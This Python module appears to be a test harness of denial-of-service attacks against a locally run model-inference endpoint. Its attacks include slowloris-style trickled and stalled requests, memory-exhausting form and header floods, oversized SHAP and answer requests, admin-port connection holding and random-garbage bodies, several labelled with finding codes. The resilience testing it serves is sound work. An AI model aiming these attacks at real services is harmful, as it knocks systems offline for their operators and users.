"""What a stranger can send who means no good: each attack goes on until it is told to end, and asks nobody how it went.

Rule: only what any caller, or any neighbour of the admin port, could do. Nothing here knows the endpoint from inside.
"""

from __future__ import annotations

import http.client
import io
import itertools
import random
import socket
import string
import struct
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from typing import TypeVar

import numpy as np

ROW = b"0.1,0.2,0.3,0.4,0.5,0.6\n"
PATIENCE_S = 20.0
T = TypeVar("T")


@dataclass(frozen=True, slots=True)
class Mark:
    """Whom to attack. `target` is a model of six features that is in memory, `many` one of ten classes."""

    port: int
    admin_port: int
    target: str
    many: str


Attack = Callable[[Mark, threading.Event], None]


def digits(mark: Mark, stop: threading.Event) -> None:
    """One number of 24 KB, in every format of text: an expression may take the square of its length (C1)."""
    number = b"1" * 24_000 + b"x"
    bodies = {"text/csv": number, "text/libsvm": b"0 1:" + number, "application/json": b'{"instances":[[' + number}
    for kind, body in _over_and_over(bodies.items(), stop):
        _ask(mark, body, kind)


def abandoned_shap(mark: Mark, stop: threading.Event) -> None:
    """SHAP values of 400,000 rows; the caller hangs up after a second (C2)."""
    _send_and_leave(mark, ROW * 400_000, stop, "contribs", after_s=1.0)


def modest_shap(mark: Mark, stop: threading.Event) -> None:
    """The same with as many rows as are answered just in time, by many callers (C2)."""

    def ask() -> None:
        while not stop.is_set():
            _ask(mark, ROW * 20_000, "text/csv", **{"X-Amzn-SageMaker-Custom-Attributes": "Output=interactions"})

    _at_once(12, ask)


def form(mark: Mark, stop: threading.Event) -> None:
    """A form of 2.5 million fields, which take most of Java's memory (C3)."""
    body = b"&".join([b"a%d=1" % number for number in range(1_200_000)])
    while not stop.is_set():
        _ask(mark, body, "application/x-www-form-urlencoded")


def big_answers(mark: Mark, stop: threading.Event) -> None:
    """Small bodies whose answers would have gigabytes (H1)."""
    bodies = {"application/x-npy": (_npy(9_000_000), mark.many), "text/libsvm": (b"1\n" * 1_000_000, mark.target)}

    def ask() -> None:
        for kind, (body, target) in _over_and_over(bodies.items(), stop):
            _ask(mark, body, kind, target=target)

    _at_once(8, ask)


def wide_line(mark: Mark, stop: threading.Event) -> None:
    """A second line of eight million cells (H1)."""
    body = ROW + b",".join([b"11"] * 8_000_000)
    while not stop.is_set():
        _ask(mark, body, "text/csv")


def invented_targets(mark: Mark, stop: threading.Event) -> None:
    """A new name each time (H2)."""
    names = itertools.count()

    def ask() -> None:
        with suppress(OSError, http.client.HTTPException), _connection(mark.port) as connection:
            while not stop.is_set():
                headers = {"X-Amzn-SageMaker-Target-Model": f"x/{next(names)}", "Content-Type": "text/csv"}
                connection.request("POST", "/invocations", b"1", headers)
                connection.getresponse().read()

    _until(stop, lambda: _at_once(16, ask))


def silent_admins(mark: Mark, stop: threading.Event) -> None:
    """Connections to the admin port that say nothing, or half a request (H3)."""
    with _held() as held:
        while not stop.wait(0.01):
            with suppress(OSError):
                one = socket.create_connection(("127.0.0.1", mark.admin_port), timeout=5)
                held.append(one)
                if len(held) % 2:
                    one.sendall(b"GET /healthz HTTP/1.1\r\nHost: local")
            _let_go(held, most=64)


def stalled_bodies(mark: Mark, stop: threading.Event) -> None:
    """Bodies that stop half way and keep their place in Java's memory (H4)."""
    with _held() as held:
        while not stop.wait(0.05):
            with suppress(OSError):
                one = socket.create_connection(("127.0.0.1", mark.port), timeout=5)
                held.append(one)
                one.sendall(_head(mark, "text/csv", 26_214_400) + b"1" * random.choice([20_000, 200_000, 1 << 20]))
            _let_go(held, most=300)


def aborted_bodies(mark: Mark, stop: threading.Event) -> None:
    """Bodies that are reset half way: each is a line of Java's log (H5)."""
    while not stop.is_set():
        with suppress(OSError), socket.create_connection(("127.0.0.1", mark.port), timeout=5) as one:
            one.sendall(_head(mark, "text/csv", 1000) + b"1")
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def many_headers(mark: Mark, stop: threading.Event) -> None:
    """1,100 short headers, which no frame has room for (M1)."""
    names = ["".join(three) for three in itertools.product(string.ascii_lowercase, repeat=3)][:1100]
    while not stop.is_set():
        _ask(mark, ROW, "text/csv", **dict.fromkeys(names, ""))


def long_answers(mark: Mark, stop: threading.Event) -> None:
    """A million rows as JSON: an answer longer than may be sent (M1)."""
    while not stop.is_set():
        _ask(mark, ROW * 1_000_000, "text/csv", Accept="application/json")


def garbage(mark: Mark, stop: threading.Event) -> None:
    """Bytes at random under every content type."""
    kinds = [
        "text/csv",
        "text/libsvm",
        "application/json",
        "application/jsonlines",
        "application/x-npy",
        "application/x-parquet",
    ]
    kinds += ["application/x-recordio-protobuf", "application/vnd.apache.arrow.stream", "image/png", "", "a" * 5000]
    for kind in _over_and_over(kinds, stop):
        body = random.randbytes(random.choice([1, 100, 10_000, 1_000_000]))
        _ask(mark, random.choice([body, ROW + body, _npy(10)[:100] + body, b'{"instances":[' + body]), kind)


def trickled_heads(mark: Mark, stop: threading.Event) -> None:
    """Requests that come a byte at a time, on many connections."""
    with _held() as held:
        while not stop.wait(0.05):
            with suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", mark.port), timeout=5))
            for one in list(held):
                with suppress(OSError):
                    one.sendall(b"P")
            _let_go(held, most=200)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        digits,
        abandoned_shap,
        modest_shap,
        form,
        big_answers,
        wide_line,
        invented_targets,
        silent_admins,
        stalled_bodies,
        aborted_bodies,
        many_headers,
        long_answers,
        garbage,
        trickled_heads,
    )
}


def _ask(mark: Mark, body: bytes, kind: str, *, target: str | None = None, **headers: str) -> None:
    named = {"X-Amzn-SageMaker-Target-Model": target or mark.target, "Content-Type": kind, **headers}
    with suppress(OSError, http.client.HTTPException), _connection(mark.port) as connection:
        connection.request("POST", "/invocations", body, named)
        connection.getresponse().read()


@contextmanager
def _connection(port: int) -> Iterator[http.client.HTTPConnection]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE_S)
    try:
        yield connection
    finally:
        connection.close()


def _head(mark: Mark, kind: str, n_bytes: int, outputs: str = "") -> bytes:
    lines = ["POST /invocations HTTP/1.1", "Host: x", f"X-Amzn-SageMaker-Target-Model: {mark.target}"]
    lines += [f"Content-Type: {kind}", f"Content-Length: {n_bytes}"]
    lines += [f"X-Amzn-SageMaker-Custom-Attributes: Output={outputs}"] if outputs else []
    return "\r\n".join([*lines, "", ""]).encode()


def _send_and_leave(mark: Mark, body: bytes, stop: threading.Event, outputs: str, after_s: float) -> None:
    while not stop.is_set():
        with suppress(OSError), socket.create_connection(("127.0.0.1", mark.port), timeout=PATIENCE_S) as one:
            one.sendall(_head(mark, "text/csv", len(body), outputs) + body)
            stop.wait(after_s)


def _npy(n_rows: int) -> bytes:
    file = io.BytesIO()
    np.save(file, np.zeros((n_rows, 6 if n_rows < 1000 else 1), "i1"))
    return file.getvalue()


def _over_and_over(things: Iterable[T], stop: threading.Event) -> Iterator[T]:
    return itertools.takewhile(lambda _: not stop.is_set(), itertools.cycle(things))


def _at_once(n_threads: int, work: Callable[[], None]) -> None:
    threads = [threading.Thread(target=work) for _ in range(n_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _until(stop: threading.Event, work: Callable[[], None]) -> None:
    while not stop.is_set():
        work()
        time.sleep(0.01)  # its connections were all refused


@contextmanager
def _held() -> Iterator[list[socket.socket]]:
    """Sockets that are kept open until the end."""
    held: list[socket.socket] = []
    try:
        yield held
    finally:
        _let_go(held, most=0)


def _let_go(held: list[socket.socket], most: int) -> None:
    while len(held) > most:
        held.pop(0).close()
